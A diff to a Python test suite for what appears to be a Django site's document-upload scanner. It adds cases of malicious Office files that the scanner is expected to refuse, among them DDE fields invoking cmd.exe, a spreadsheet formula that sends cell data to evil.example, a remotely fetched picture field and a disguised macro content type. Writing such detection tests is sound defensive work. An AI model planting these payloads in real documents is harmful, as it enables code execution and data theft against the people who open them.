@@ -13,7 +13,7 @@ from django.utils.translation import override
 from pikepdf import Array, Dictionary, Encryption, Name, Pdf, String
 
 from cities.models import Document
-from learningcities.media.documents import DOUBTS, SENTENCES, DocumentFormField
+from learningcities.media.documents import DOUBTS, KINDS, SENTENCES, DocumentFormField
 from learningcities.operations.tidy import CHORES
 from tests import factories
 from tests.document_files import (
@@ -152,6 +152,21 @@ REFUSED = {
     "the same in one piece": (office(body='<w:fldSimple w:instr=" DDE cmd.exe"/>'), "leads"),
     "the same worked out": (office(body=field(["QUOTE 68 68 69"], " cmd.exe")), "leads"),
     "the same in a sheet": (office("xlsx", body="<s:f>cmd|'/C calc'!A0</s:f>"), "leads"),
+    "a formula that asks the web": (
+        office("xlsx", body='<s:f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</s:f>'),
+        "leads",
+    ),
+    "a picture that is fetched": (office(body=field(' INCLUDEPICTURE "https://evil.example/a.png" \\d')), "leads"),
+    "a type said twice": (
+        office(
+            types={
+                "word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml",
+                "WORD/document.xml": f"{KINDS['docx']}.main+xml",
+            }
+        ),
+        "damaged",
+    ),
+    "a page among the pictures": (open_document(**{"Pictures/a.htm": "x"}), "macros"),
     "a button that starts a program": (office("pptx", body='<a:hlinkClick action="ppaction://program"/>'), "macros"),
     "an embedded program": (with_object(ole("0003000C-0000-0000-C000-000000000046", Package=b"MZ")), "embedded"),
     "a program that calls itself an equation": (with_object(ole(Equation_Native=b"x", Package=b"MZ")), "embedded"),
@@ -333,6 +348,9 @@ HONEST = {
         "xlsx",
         types={"xl/printerSettings1.bin": f"{OFFICE}.spreadsheetml.printerSettings"},
         **{"xl/printerSettings1.bin": b"\0" * 99},
+    ),
+    "a picture from the web that is kept": office(
+        body=field(' INCLUDEPICTURE "https://a.example/b.png" \\* MERGEFORMATINET')
     ),
     "fields of a text": office(
         body=field(" TOC \\o")
